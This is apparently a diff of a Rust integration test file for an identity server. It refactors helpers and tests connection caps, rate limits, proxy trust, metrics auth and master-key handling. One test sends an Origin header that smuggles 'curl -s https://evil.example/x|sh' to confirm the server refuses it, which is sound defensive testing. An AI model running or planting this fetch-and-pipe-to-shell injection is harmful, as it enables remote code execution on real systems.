@@ -6,33 +6,17 @@
 //! Several tests speak from a second loopback address (127.0.0.2): on Linux all of 127.0.0.0/8
 //! reaches the loopback interface, so a socket bound there before connecting is another client.
 
-#[path = "../../tests/support/mod.rs"]
 mod support;
 
 use std::io::{Read, Write};
 use std::net::{Ipv4Addr, SocketAddr, TcpStream};
 use std::time::{Duration, Instant};
 
-use dropfix_core::{SecretKey, seed};
-use serde_json::{Value as Json, json};
-use support::{ADMIN_TOKEN, Options, Response, Server, build_request, eventually, parse_response};
-
-fn now() -> i64 {
-    dropfix_server::http::now()
-}
-
-/// A server on a fresh data dir with `args`; returns it, its temp dir and the dev workspace.
-fn start(args: &[&str]) -> (Server, tempfile::TempDir, String, SecretKey) {
-    let dir = tempfile::tempdir().unwrap();
-    let opts = Options {
-        // Deterministic logs whatever the caller's environment says.
-        env: vec![("DROPFIX_LOG", "info"), ("NO_COLOR", "")],
-        args: args.to_vec(),
-    };
-    let server = Server::start(dir.path(), &opts);
-    let (app, secret) = server.dev_workspace.clone().expect("first start prints it");
-    (server, dir, app, SecretKey::new(secret.as_str()))
-}
+use serde_json::json;
+use support::{
+    ADMIN_TOKEN, Response, Server, build_request, eventually, identify_request, now,
+    parse_response, signed_call, start_binary,
+};
 
 /// A TCP connection to `addr` from `source` (any port).
 fn connect_from(source: Ipv4Addr, addr: SocketAddr) -> TcpStream {
@@ -59,17 +43,6 @@ fn exchange(mut stream: TcpStream, request: &[u8], timeout: Duration) -> std::io
     parse_response(&buf).ok_or_else(|| std::io::Error::other(format!("no response: {buf:?}")))
 }
 
-fn identify_request(body: &Json, extra: &[(&str, &str)]) -> Vec<u8> {
-    let mut headers = vec![("Content-Type", "application/json")];
-    headers.extend_from_slice(extra);
-    build_request(
-        "POST",
-        "/v1/identify",
-        &headers,
-        body.to_string().as_bytes(),
-    )
-}
-
 fn metrics(server: &Server) -> String {
     let r = server.admin("GET", "/metrics", None);
     assert_eq!(r.status, 200, "{}", r.text());
@@ -83,15 +56,14 @@ fn metric(text: &str, series: &str) -> f64 {
         .map_or(0.0, |v| v.trim().parse().unwrap())
 }
 
-fn signed(app: &str, key: &SecretKey, user: &str) -> Json {
-    json!({"app_id": app, "user_id": user, "signature": seed::sign(key, user), "signedAt": now()})
-}
-
 #[test]
 fn a_client_at_its_connection_cap_is_closed_at_once_and_others_still_get_in() {
     // 12 connections in all, 8 per client: if refused connections took global slots (or there
     // were no per-client cap), the 38 connections below would leave nothing for 127.0.0.2.
-    let (server, _dir, _, _) = start(&["--max-connections", "12", "--max-connections-per-ip", "8"]);
+    let (server, _dir, _, _) = start_binary(
+        &["--max-connections", "12", "--max-connections-per-ip", "8"],
+        &[],
+    );
     let hog = Ipv4Addr::new(127, 0, 0, 1);
     let held: Vec<TcpStream> = (0..8).map(|_| connect_from(hog, server.addr)).collect();
     // The server has accepted those 8 once a 9th is refused; then every further one is refused
@@ -162,7 +134,7 @@ fn a_client_at_its_connection_cap_is_closed_at_once_and_others_still_get_in() {
 
 #[test]
 fn an_oversized_unfinished_head_is_cut_without_waiting_for_the_rest() {
-    let (server, _dir, app, key) = start(&[]);
+    let (server, _dir, app, key) = start_binary(&[], &[]);
     // 300 KB of a header that never ends: hyper's default buffer (~400 KB) kept reading it until
     // the header timeout; now it is refused once past what a valid request needs.
     let mut stream = TcpStream::connect(server.addr).unwrap();
@@ -190,7 +162,7 @@ fn an_oversized_unfinished_head_is_cut_without_waiting_for_the_rest() {
     }
     // A valid call at the limits still passes: a 15 KiB body and 12 KB of headers.
     let user = "big-but-valid";
-    let mut body = signed(&app, &key, user).to_string();
+    let mut body = signed_call(&app, &key, user).to_string();
     // Whitespace is valid JSON and passes the trait length limits.
     body.push_str(&" ".repeat(15 * 1024 - body.len()));
     let filler = "f".repeat(12 * 1024);
@@ -205,8 +177,10 @@ fn an_oversized_unfinished_head_is_cut_without_waiting_for_the_rest() {
 
 #[test]
 fn forged_calls_do_not_spend_the_workspace_quota() {
-    let (server, _dir, app, key) =
-        start(&["--rate-limit-per-app", "5", "--rate-limit-per-ip", "0"]);
+    let (server, _dir, app, key) = start_binary(
+        &["--rate-limit-per-app", "5", "--rate-limit-per-ip", "0"],
+        &[],
+    );
     // 5/s with a burst of 10: twenty forged calls would have spent it all.
     for i in 0..20 {
         let forged = json!({"app_id": app, "user_id": format!("victim{i}"),
@@ -214,7 +188,7 @@ fn forged_calls_do_not_spend_the_workspace_quota() {
         let r = server.identify(forged.to_string().as_bytes());
         assert_eq!(r.status, 401, "{}", r.text());
     }
-    let r = server.identify(signed(&app, &key, "honest").to_string().as_bytes());
+    let r = server.identify(signed_call(&app, &key, "honest").to_string().as_bytes());
     assert_eq!(
         r.status,
         200,
@@ -224,7 +198,7 @@ fn forged_calls_do_not_spend_the_workspace_quota() {
     // The quota still holds for accepted calls.
     let statuses: Vec<u16> = (0..20)
         .map(|i| {
-            let body = signed(&app, &key, &format!("honest{i}"));
+            let body = signed_call(&app, &key, &format!("honest{i}"));
             server.identify(body.to_string().as_bytes()).status
         })
         .collect();
@@ -237,7 +211,7 @@ fn forged_calls_do_not_spend_the_workspace_quota() {
 
 #[test]
 fn metrics_need_the_admin_token_on_the_main_port_and_not_on_the_metrics_listener() {
-    let (server, _dir, _, _) = start(&["--metrics-listen", "127.0.0.1:0"]);
+    let (server, _dir, _, _) = start_binary(&["--metrics-listen", "127.0.0.1:0"], &[]);
     let r = server.request("GET", "/metrics", &[], b"");
     assert_eq!(r.status, 401, "{}", r.text());
     assert!(
@@ -245,12 +219,8 @@ fn metrics_need_the_admin_token_on_the_main_port_and_not_on_the_metrics_listener
         "no metrics without the token"
     );
     assert_eq!(r.header("www-authenticate"), Some("Bearer"));
-    let r = server.request(
-        "GET",
-        "/metrics",
-        &[("Authorization", "Bearer dfadm_wrong")],
-        b"",
-    );
+    let wrong_token = [("Authorization", "Bearer dfadm_wrong")];
+    let r = server.request("GET", "/metrics", &wrong_token, b"");
     assert_eq!(r.status, 401);
     assert!(metrics(&server).contains("dropfix_identify_duration_seconds"));
 
@@ -301,8 +271,10 @@ fn statuses_with_xff(server: &Server, xff: Option<&str>, n: usize) -> Vec<u16> {
 #[test]
 fn forwarded_for_is_ignored_from_an_untrusted_peer() {
     // 1/s with a burst of 2 per client; 127.0.0.1 is not a trusted proxy here.
-    let (server, _dir, _, _) =
-        start(&["--rate-limit-per-ip", "1", "--trusted-proxy", "10.0.0.0/8"]);
+    let (server, _dir, _, _) = start_binary(
+        &["--rate-limit-per-ip", "1", "--trusted-proxy", "10.0.0.0/8"],
+        &[],
+    );
     let mut all = Vec::new();
     for i in 0..6 {
         // A spoofer changes its claimed address on every call: it is still one client.
@@ -326,14 +298,17 @@ fn forwarded_for_is_ignored_from_an_untrusted_peer() {
 
 #[test]
 fn behind_a_trusted_proxy_each_forwarded_client_has_its_own_limit() {
-    let (server, _dir, _, _) = start(&[
-        "--rate-limit-per-ip",
-        "1",
-        "--trusted-proxy",
-        "127.0.0.1",
-        "--trusted-proxy",
-        "10.0.0.0/8",
-    ]);
+    let (server, _dir, _, _) = start_binary(
+        &[
+            "--rate-limit-per-ip",
+            "1",
+            "--trusted-proxy",
+            "127.0.0.1",
+            "--trusted-proxy",
+            "10.0.0.0/8",
+        ],
+        &[],
+    );
     // Five clients through the proxy, two calls each: all within their own burst of 2.
     for i in 0..5 {
         let xff = format!("198.51.100.{i}");
@@ -365,7 +340,7 @@ fn behind_a_trusted_proxy_each_forwarded_client_has_its_own_limit() {
 
 #[test]
 fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
-    let (server, _dir, app, key) = start(&[]);
+    let (server, _dir, app, key) = start_binary(&[], &[]);
     let evil = "https://shop.example.net";
     // Preflight naming the app, preflight naming no app, POST, preflight for an unknown app.
     let r = server.request(
@@ -376,7 +351,7 @@ fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
     );
     assert_eq!(r.status, 403);
     let r = server.raw(&identify_request(
-        &signed(&app, &key, "u1"),
+        &signed_call(&app, &key, "u1"),
         &[("Origin", evil)],
     ));
     assert_eq!(r.status, 403);
@@ -474,7 +449,7 @@ fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
     // An Origin that no browser sends (here a shell command) is never offered as a command.
     let hostile = "https://shop.example.net;curl -s https://evil.example/x|sh;#";
     let r = server.raw(&identify_request(
-        &signed(&app, &key, "u1"),
+        &signed_call(&app, &key, "u1"),
         &[("Origin", hostile)],
     ));
     assert_eq!(r.status, 403);
@@ -493,14 +468,10 @@ fn a_refused_origin_is_logged_with_the_fix_and_counted_by_app() {
 
 #[test]
 fn logs_carry_no_colour_codes_when_stderr_is_not_a_terminal() {
-    let (server, _dir, app, _) = start(&[]);
+    let (server, _dir, app, _) = start_binary(&[], &[]);
     // Warnings and infos both: an admin call with a wrong token logs a warning.
-    let r = server.request(
-        "GET",
-        "/v1/admin/workspaces",
-        &[("Authorization", "Bearer wrong")],
-        b"",
-    );
+    let wrong_token = [("Authorization", "Bearer wrong")];
+    let r = server.request("GET", "/v1/admin/workspaces", &wrong_token, b"");
     assert_eq!(r.status, 401);
     let r = server.raw(&identify_request(
         &json!({"app_id": app, "user_id": "x"}),
@@ -539,13 +510,9 @@ fn trusted_proxies_and_the_connection_cap_flags_are_checked() {
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("10.0.0.0/33"), "{err}");
     // The env var takes a comma-separated list.
-    let dir = tempfile::tempdir().unwrap();
-    let server = Server::start(
-        dir.path(),
-        &Options {
-            env: vec![("DROPFIX_TRUSTED_PROXIES", "10.0.0.0/8, 127.0.0.1")],
-            args: vec!["--rate-limit-per-ip", "1"],
-        },
+    let (server, _dir, _, _) = start_binary(
+        &["--rate-limit-per-ip", "1"],
+        &[("DROPFIX_TRUSTED_PROXIES", "10.0.0.0/8, 127.0.0.1")],
     );
     for i in 0..3 {
         let xff = format!("198.51.100.{i}");
@@ -560,52 +527,32 @@ fn trusted_proxies_and_the_connection_cap_flags_are_checked() {
 #[test]
 fn an_instance_without_the_current_master_key_fails_closed() {
     use dropfix_server::sealing::{Keyring, MasterKey};
-    use dropfix_server::store::{Backend, Hooks, Store};
     use dropfix_server::workspace::WorkspacePatch;
 
     let old = MasterKey::generate("mk1").unwrap();
     let new = MasterKey::generate("mk2").unwrap();
     let entry = old.export_entry();
-    let dir = tempfile::tempdir().unwrap();
-    let opts = Options {
-        env: vec![
-            ("DROPFIX_LOG", "info"),
-            ("NO_COLOR", ""),
-            ("DROPFIX_MASTER_KEYS", entry.as_str()),
-        ],
-        args: vec![],
-    };
-    let server = Server::start(dir.path(), &opts);
-    let (app, secret) = server.dev_workspace.clone().expect("first start prints it");
-    let key = SecretKey::new(secret.as_str());
+    let (server, dir, app, key) = start_binary(&[], &[("DROPFIX_MASTER_KEYS", entry.as_str())]);
     assert_eq!(
         server
-            .identify(&serde_json::to_vec(&signed(&app, &key, "u1")).unwrap())
+            .identify(&serde_json::to_vec(&signed_call(&app, &key, "u1")).unwrap())
             .status,
         200
     );
 
     // What `master-key rewrap` and `workspace set --strict on` do with both keys, mk2 active.
-    tokio::runtime::Builder::new_current_thread()
-        .enable_all()
-        .build()
-        .unwrap()
-        .block_on(async {
-            let ring = Keyring::new(vec![new.clone(), old.clone()]).unwrap();
-            let backend = Backend::Sqlite {
-                data_dir: dir.path().to_path_buf(),
-            };
-            let store = Store::open(&backend, Hooks::new(ring)).await.unwrap();
-            assert_eq!(store.rewrap_secrets().await.unwrap(), 1);
-            let strict = WorkspacePatch {
-                strict: Some(dropfix_core::StrictMode::Enforce),
-                ..Default::default()
-            };
-            store
-                .update_workspace(&app, &strict, "cli", now())
-                .await
-                .unwrap();
-        });
+    let ring = Keyring::new(vec![new.clone(), old.clone()]).unwrap();
+    support::with_store_on(&support::embedded(dir.path()), &ring, async |store| {
+        assert_eq!(store.rewrap_secrets().await.unwrap(), 1);
+        let strict = WorkspacePatch {
+            strict: Some(dropfix_core::StrictMode::Enforce),
+            ..Default::default()
+        };
+        store
+            .update_workspace(&app, &strict, "cli", now())
+            .await
+            .unwrap();
+    });
 
     let health = eventually("the health check to fail", || {
         let r = server.request("GET", "/healthz", &[], b"");
@@ -613,7 +560,7 @@ fn an_instance_without_the_current_master_key_fails_closed() {
     });
     assert_eq!(health.json()["status"], "config_stale");
     for body in [
-        signed(&app, &key, "u2"),
+        signed_call(&app, &key, "u2"),
         json!({"app_id": app, "user_id": "u3"}),
     ] {
         let r = server.identify(&serde_json::to_vec(&body).unwrap());
